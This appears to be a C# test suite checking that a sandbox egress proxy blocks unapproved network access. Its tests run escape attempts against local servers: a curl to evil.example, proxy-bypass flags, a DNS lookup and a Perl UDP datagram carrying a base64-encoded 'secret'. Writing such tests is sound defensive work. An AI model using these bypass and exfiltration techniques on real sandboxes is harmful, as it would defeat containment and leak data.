using System.Net;
using System.Net.Sockets;
using System.Text;
using Aegis.Core.Errors;
using Aegis.Core.Runs;
using Aegis.Sandbox.Egress;
using Aegis.Tests.Shared;

namespace Aegis.Sandbox.Tests.Egress;

/// <summary>Tries to get out of a sandbox with a proxy. Each try is shown to work where the wall is
/// not.</summary>
[Collection("sandbox")]
public sealed class SandboxEgressTests(SandboxFixture sandbox)
{
    private const string Get = "curl -sS --max-time 10 -o /dev/null -w '%{http_code}' ";

    [Fact]
    public async Task Command_WithAnAllowedHost_ReachesItThroughTheProxyAlone()
    {
        await using var server = new LoopbackServer(_ => LoopbackServer.Ok("hello from outside"));
        var entry = $"site.example:{server.Port}";
        await using var proxied = await ProxiedSandbox.OpenAsync(sandbox, entry);
        var (ran, facts) = await proxied.RunAsync([entry], "curl", "-sS", $"http://{entry}/a");
        Assert.Equal((0, "hello from outside"), (ran.Exit, ran.Stdout));
        Assert.Equal(new EgressFact("site.example", server.Port, "GET", entry, null, 1, 0, 0),
            Assert.Single(facts) with { BytesOut = 0, BytesIn = 0 });
        Assert.Contains("egress proxy (1 entries)",
            ran.Outcome.Walls.Single(w => w.Wall == "network").Mechanism, StringComparison.Ordinal);
        // no other way: not past the proxy, and not without one
        var past = await proxied.RunAsync([entry], "sh", "-c",
            $"curl -sS --noproxy '*' --connect-to ::127.0.0.1: http://{entry}/ || echo closed");
        Assert.EndsWith("closed", past.Ran.Stdout, StringComparison.Ordinal);
        var none = await sandbox.RunAsync("sh", "-c",
            $"curl -sS -x http://127.0.0.1:3128 http://{entry}/ || echo closed");
        Assert.EndsWith("closed", none.Stdout, StringComparison.Ordinal);
        Assert.Single(server.Asked);
    }

    [Fact]
    public async Task Command_ToAnotherHost_SeesCodeRuleAndMend()
    {
        await using var server = new LoopbackServer(_ => LoopbackServer.Ok());
        var entry = $"site.example:{server.Port}";
        await using var proxied = await ProxiedSandbox.OpenAsync(
            sandbox, entry, $"evil.example:{server.Port}");
        var (ran, facts) = await proxied.RunAsync([entry], "curl", "-s",
            $"http://evil.example:{server.Port}/");
        Assert.Contains("\"code\":\"AEGIS2161\"", ran.Stdout, StringComparison.Ordinal);
        Assert.Contains("\"mend\":", ran.Stdout, StringComparison.Ordinal);
        Assert.Equal("AEGIS2161", Assert.Single(facts).Denied);
        Assert.Empty(server.Asked);
        var control = await proxied.RunAsync([$"evil.example:{server.Port}"], "sh", "-c",
            Get + $"http://evil.example:{server.Port}/");
        Assert.Equal("200", control.Ran.Stdout);
    }

    [Fact]
    public async Task Connect_ToThePrivateNetwork_NeedsTheAdministrator()
    {
        await using var server = new LoopbackServer(_ => LoopbackServer.Ok());
        var entry = $"127.0.0.1:{server.Port}";
        string[] act = ["sh", "-c", Get + $"--noproxy '' -x http://127.0.0.1:3128 http://{entry}/; "
            + $"curl -s -o /dev/null -w ' %{{http_connect}}' --noproxy '' -p -x http://127.0.0.1:3128 "
            + $"--max-time 1 https://{entry}/"];
        await using var closed = await ProxiedSandbox.OpenAsync(sandbox);
        Assert.Equal("403 403", (await closed.RunAsync([entry], act)).Ran.Stdout);
        Assert.Empty(server.Asked);
        await using var open = await ProxiedSandbox.OpenAsync(sandbox, entry);
        Assert.StartsWith("200 200", (await open.RunAsync([entry], act)).Ran.Stdout,
            StringComparison.Ordinal);
    }

    [Fact]
    public async Task Names_AreNotLookedUpInside()
    {
        using var listener = new UdpClient(new IPEndPoint(IPAddress.Loopback, 0));
        var port = ((IPEndPoint)listener.Client.LocalEndPoint!).Port;
        var send = "use Socket; socket(S, PF_INET, SOCK_DGRAM, 17);"
            + $" send(S, \"c2VjcmV0\", 0, pack_sockaddr_in({port}, inet_aton(\"127.0.0.1\")))";
        await using var proxied = await ProxiedSandbox.OpenAsync(sandbox);
        var (ran, _) = await proxied.RunAsync(["*.example"], "sh", "-c",
            $"getent hosts c2VjcmV0.evil.example; echo $?; [ -e /etc/resolv.conf ] || echo none;"
            + $" perl -e '{send}'");
        Assert.Equal("2\nnone", ran.Stdout);
        Assert.Equal(0, listener.Available);
        // the control: the same datagram from the host arrives
        await sandbox.OnHostAsync("perl", "-e", send);
        Assert.Equal("c2VjcmV0", Encoding.ASCII.GetString((await listener.ReceiveAsync()).Buffer));
    }

    [Theory]
    [InlineData("tls.example", true)]
    [InlineData("other.example", false)]
    public async Task ServerName_OtherThanTheTunnels_EndsIt(string name, bool through)
    {
        await using var server = new TlsServer("tls.example");
        var entry = $"tls.example:{server.Port}";
        await using var proxied = await ProxiedSandbox.OpenAsync(sandbox, entry);
        var (ran, facts) = await proxied.RunAsync([entry], "sh", "-c",
            $"printf 'GET / HTTP/1.1\\r\\n\\r\\n' | openssl s_client -quiet -no_ign_eof "
            + $"-proxy 127.0.0.1:3128 -connect {entry} -servername {name} 2>&1");
        Assert.Equal(through, server.Connections == 1);
        Assert.Equal(through ? null : "AEGIS3105", Assert.Single(facts).Denied);
        Assert.Equal(!through, ran.Stdout.Contains("unrecognized name", StringComparison.Ordinal));
    }

    [Fact]
    public async Task HandOver_LeavesNothingInside()
    {
        await using var proxied = await ProxiedSandbox.OpenAsync(sandbox);
        var (ran, _) = await proxied.RunAsync(["a.example"], "sh", "-c",
            "ls -l /proc/1/fd /proc/self/fd | grep -c socket; cat /proc/[0-9]*/comm | grep -c perl;"
            + " echo $https_proxy $no_proxy");
        Assert.Equal("0\n0\nhttp://127.0.0.1:3128 localhost,127.0.0.1,::1", ran.Stdout);
    }

    [Fact]
    public async Task HandOver_ThatFails_StartsNoCommand()
    {
        // on the host's own network the port can be taken
        var runner = await sandbox.WithoutAsync("network");
        using var taken = new TcpListener(IPAddress.Loopback, ProxyNetwork.Port);
        taken.Start();
        var spec = SandboxFixture.Spec("sh", "-c", "echo begun; echo begun >&2");
        var error = await Assert.ThrowsAsync<AegisException>(() => SandboxFixture.RunAsync(runner,
            spec with { Network = new ProxyNetwork(["a.example"], new EgressLimits()) }));
        Assert.Equal("AEGIS3112", error.Error.Code);
        Assert.Contains("bind: Address already in use", error.Error.Got, StringComparison.Ordinal);
        Assert.DoesNotContain("begun", error.Error.Got, StringComparison.Ordinal);
        // the control: the same where nobody has the port
        Assert.Equal("begun", (await SandboxFixture.RunAsync(runner, spec)).Stdout);
        await using var proxied = await ProxiedSandbox.OpenAsync(sandbox);
        Assert.Equal(0, (await proxied.RunAsync(["a.example"], "true")).Ran.Exit);
    }

    [Fact]
    public async Task Command_ThatEndsAtOnce_OrIsStopped_StillTellsWhatItAsked()
    {
        await using var server = new LoopbackServer(_ => null);
        var entry = $"site.example:{server.Port}";
        await using var proxied = await ProxiedSandbox.OpenAsync(sandbox, entry);
        Assert.Equal(0, (await proxied.RunAsync([entry], "true")).Ran.Exit);
        // ends while its request still waits
        var (ran, facts) = await proxied.RunAsync([entry], "sh", "-c",
            $"curl -s http://{entry}/ & sleep 0.5; kill -9 $!; wait");
        Assert.Equal(1, Assert.Single(facts).Count);
        Assert.Single(server.Asked);
        Assert.NotNull(ran.Exit);
    }

    [Fact]
    public async Task Entries_AtTheLimitAndPast()
    {
        await using var proxied = await ProxiedSandbox.OpenAsync(sandbox);
        var entries = Enumerable.Range(0, ProxyNetwork.EntriesMax).Select(i => $"h{i}.example").ToArray();
        Assert.Equal(0, (await proxied.RunAsync(entries, "true")).Ran.Exit);
        var error = await Assert.ThrowsAsync<AegisException>(() =>
            proxied.RunAsync([.. entries, "one.more"], "true"));
        Assert.Equal("AEGIS3006", error.Error.Code);
    }

    [Fact]
    public async Task OwnServer_OnLoopbackInside_IsReachedWithoutTheProxy()
    {
        await using var proxied = await ProxiedSandbox.OpenAsync(sandbox);
        var (ran, facts) = await proxied.RunAsync(["a.example"], "sh", "-c",
            "perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 6);"
            + " bind(S, pack_sockaddr_in(8080, INADDR_LOOPBACK));"
            + " listen(S, 1); open(F, \">/tmp/up\"); close F; accept(C, S);"
            + " sysread C, $x, 999; syswrite C, \"HTTP/1.0 200 OK\\r\\n\\r\\nmine\"' &"
            + " until [ -e /tmp/up ]; do :; done;"
            + " curl -s http://127.0.0.1:8080/");
        Assert.Equal("mine", ran.Stdout);
        Assert.Empty(facts);
    }
}
